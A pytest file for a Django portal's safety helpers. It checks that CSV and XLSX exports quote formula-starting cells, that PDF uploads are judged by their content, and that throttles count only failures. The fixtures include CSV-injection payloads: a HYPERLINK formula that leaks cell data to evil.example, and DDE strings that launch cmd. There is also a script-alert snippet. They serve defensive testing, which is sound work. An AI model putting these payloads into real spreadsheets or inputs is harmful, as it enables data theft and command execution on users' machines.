"""Shared safety helpers: exports that cannot carry formulas, uploads judged by content, throttles
that count failures (issue 9, items 4 and 5)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import path
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from rest_framework.request import Request
from rest_framework.response import Response
from rest_framework.test import APIClient
from rest_framework.views import APIView

from nmo_portal.lib.exceptions import ApplicationError, TooManyAttempts
from nmo_portal.lib.exports import csv_response, csv_text, safe_cell, xlsx_bytes, xlsx_response
from nmo_portal.lib.throttling import FailureThrottle, parse_rate, scoped_throttle
from nmo_portal.lib.uploads import check_pdf_upload

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# --- exports ----------------------------------------------------------------------------------
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_could_start_a_formula_is_quoted(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


def test_ordinary_values_pass_unchanged() -> None:
    assert safe_cell("Иванова") == "Иванова"
    assert safe_cell(-5) == -5 and safe_cell(Decimal("1.5")) == Decimal("1.5")
    assert safe_cell(None) == "" and safe_cell(date(2026, 1, 2)) == date(2026, 1, 2)


@given(st.text())
@settings(max_examples=300)
def test_no_text_cell_ever_leaves_starting_a_formula(text: str) -> None:
    out = safe_cell(text)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert out.lstrip("'") == text.lstrip("'") or out == "'" + text


def test_csv_has_a_bom_semicolons_and_quoted_payloads() -> None:
    text = csv_text(
        ["СНИЛС", "Фамилия", "ЗЕТ", "Дата"], [["11223344595", p, Decimal("1.5"), date(2026, 3, 1)] for p in PAYLOADS]
    )
    assert text.startswith("\ufeffСНИЛС;Фамилия;ЗЕТ;Дата\r\n")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert [r[1] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert rows[1][2] == "1,5" and rows[1][3] == "01.03.2026"


def test_csv_can_be_comma_separated_without_a_bom() -> None:
    assert csv_text(["a", "b"], [[1, "=x"]], delimiter=",", bom=False) == "a,b\r\n1,'=x\r\n"


def test_the_csv_response_streams_as_an_attachment() -> None:
    response = csv_response("результаты.csv", ["a"], iter([["=1"], ["2"]]))
    assert response.streaming
    body = b"".join(response.streaming_content).decode("utf-8")  # type: ignore[arg-type]
    assert body == "\ufeffa\r\n'=1\r\n2\r\n"
    assert "attachment" in response["Content-Disposition"] and "utf-8''" in response["Content-Disposition"]


def test_xlsx_cells_are_text_not_formulas() -> None:
    data = xlsx_bytes(
        ["Фамилия", "ЗЕТ"], [[p, 2] for p in [*PAYLOADS, "bad\x00control\x1bchars"]], title="Итоги: 2026/1"
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    values = list(sheet.iter_rows(min_row=2))
    # (XML turns a stored CR into LF on reading; the quote is what matters)
    assert [r[0].value for r in values[: len(PAYLOADS)]] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    assert all(r[0].data_type == "s" for r in values)
    assert values[-1][0].value == "badcontrolchars" and values[0][1].value == 2


def test_the_xlsx_response_is_an_attachment() -> None:
    response = xlsx_response("r.xlsx", ["a"], [["=1"]])
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].startswith("attachment")


# --- uploads ----------------------------------------------------------------------------------
PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def test_a_pdf_is_accepted_and_left_at_the_start() -> None:
    upload = SimpleUploadedFile("report.pdf", PDF, content_type="application/pdf")
    check_pdf_upload(upload)
    assert upload.read(5) == b"%PDF-"


def _error(content: bytes, name: str = "report.pdf", **kwargs: Any) -> ApplicationError:
    with pytest.raises(ApplicationError) as info:
        check_pdf_upload(SimpleUploadedFile(name, content, content_type="application/pdf"), **kwargs)
    return info.value


def test_a_renamed_exe_is_refused_by_its_content() -> None:
    error = _error(b"MZ\x90\x00" + b"\x00" * 200 + b"%PDF-1.4 %%EOF", name="report.pdf")
    assert error.field == "file" and "исполняемый файл" in str(error.message)
    assert error.as_body() == {"file": [str(error.message)]}


@pytest.mark.parametrize(
    "content",
    [b"<html><script>alert(1)</script></html>", b"%PDF-1.4\n" + b"x" * 5000, b"PK\x03\x04 zip pretending %%EOF"],
)
def test_what_is_not_a_pdf_is_refused(content: bytes) -> None:
    assert "не является документом PDF" in str(_error(content).message)


def test_an_empty_or_oversized_file_is_refused_with_the_limit_named() -> None:
    assert "пустой" in str(_error(b"").message)
    error = _error(PDF + b"0" * 2048, max_bytes=1024 * 1024 // 1024 * 1, field="report")
    assert error.field == "report"
    big = _error(b"%PDF-" + b"0" * (10 * 1024 * 1024) + b"%%EOF")
    assert "10 МБ" in str(big.message)


# --- throttles --------------------------------------------------------------------------------
def test_rates_are_parsed() -> None:
    assert parse_rate("10/hour") == (10, 3600)
    assert parse_rate("5/15min") == (5, 900)
    with pytest.raises(ValueError):
        parse_rate("ten/hour")


def test_only_failures_count_and_the_wait_is_told() -> None:
    throttle = FailureThrottle("code_activation", rate="3/min")
    for n in range(3):
        assert throttle.check_allowed("user:1", now=1000 + n) is None
        throttle.record_failure("user:1", now=1000 + n)
    assert throttle.check_allowed("user:1", now=1010) == 50
    assert throttle.check_allowed("user:2", now=1010) is None  # another key is not affected
    assert throttle.check_allowed("user:1", now=1061) is None  # the window has slid past
    with pytest.raises(TooManyAttempts) as info:
        throttle.guard("user:1", now=1030)
    assert info.value.status_code == 429 and info.value.retry_after == 30
    throttle.reset("user:1")
    assert throttle.check_allowed("user:1", now=1030) is None


@override_settings(FAILURE_THROTTLE_RATES={"learner_validate": "1/hour"})
def test_the_rate_comes_from_settings() -> None:
    throttle = FailureThrottle("learner_validate")
    throttle.record_failure("org:7")
    assert throttle.check_allowed("org:7") is not None


def test_a_cache_outage_lets_the_request_through(monkeypatch: pytest.MonkeyPatch) -> None:
    from django.core.cache import cache

    def broken(*args: Any, **kwargs: Any) -> Any:
        raise ConnectionError("redis is down")

    monkeypatch.setattr(cache, "get", broken)
    monkeypatch.setattr(cache, "set", broken)
    throttle = FailureThrottle("code_activation", rate="1/min")
    throttle.record_failure("user:1")
    assert throttle.check_allowed("user:1") is None


class _Activate(APIView):
    authentication_classes: list[Any] = []
    permission_classes: list[Any] = []
    throttle = FailureThrottle("code_activation", rate="2/hour")

    def post(self, request: Request) -> Response:
        key = f"ip:{request.META.get('REMOTE_ADDR')}"
        self.throttle.guard(key)
        if request.data.get("code") != "GOOD":
            self.throttle.record_failure(key)
            raise ApplicationError("Неизвестный код.", field="code")
        return Response({"status": "accepted"})


class _Register(APIView):
    authentication_classes: list[Any] = []
    permission_classes: list[Any] = []
    throttle_classes = [type("Tight", (scoped_throttle("register"),), {"rate": "2/min"})]

    def post(self, request: Request) -> Response:
        return Response(status=201)


urlpatterns = [path("activate/", _Activate.as_view()), path("register/", _Register.as_view())]


@pytest.mark.urls(__name__)
def test_the_api_answers_429_with_retry_after_after_repeated_failures() -> None:
    client = APIClient()
    for _ in range(2):
        assert client.post("/activate/", {"code": "BAD"}, format="json").status_code == 400
    response = client.post("/activate/", {"code": "GOOD"}, format="json")
    assert response.status_code == 429
    assert int(response["Retry-After"]) > 3500
    assert response.json()["code"] == "throttled" and "Слишком много" in response.json()["detail"]


@pytest.mark.urls(__name__)
def test_a_scoped_throttle_limits_every_request() -> None:
    client = APIClient()
    assert [client.post("/register/").status_code for _ in range(3)] == [201, 201, 429]
    assert int(client.post("/register/")["Retry-After"]) > 0
